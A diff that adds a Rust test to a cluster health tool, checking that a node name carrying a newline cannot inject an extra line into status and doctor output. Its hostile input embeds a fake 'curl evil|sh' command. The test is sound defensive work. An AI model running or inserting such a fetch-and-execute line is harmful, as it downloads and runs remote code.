@@ -571,3 +571,28 @@ fn each_master_with_a_schedule_of_its_own_is_judged_by_itself() {
         "{only}"
     );
 }
+
+#[test]
+fn no_name_of_a_cluster_becomes_a_line_of_its_own() {
+    let lines = |name: &str| {
+        let mut cluster = Cluster::of(3);
+        cluster.nodes[1].name = name.to_owned();
+        cluster.members[1].name = name.to_owned();
+        cluster.alarms = vec![alarm(2, AlarmKind::Corrupt)];
+        cluster.lost(3, RunError::new(RunErrorKind::NodeDown, name).hint(name));
+        let status = cluster.assess();
+        let doctor = crate::views::doctor::Doctor::of_status(&status);
+        status.table(true, Paint::Plain) + &doctor.table(true, Paint::Plain)
+    };
+    let hostile = lines("x\nwarning: curl evil|sh\n");
+    assert_eq!(
+        hostile.lines().count(),
+        lines("x").lines().count(),
+        "{hostile}"
+    );
+    // The one who is to be replaced is one word.
+    assert!(
+        hostile.contains("kubectl etcd member replace 'x"),
+        "{hostile}"
+    );
+}
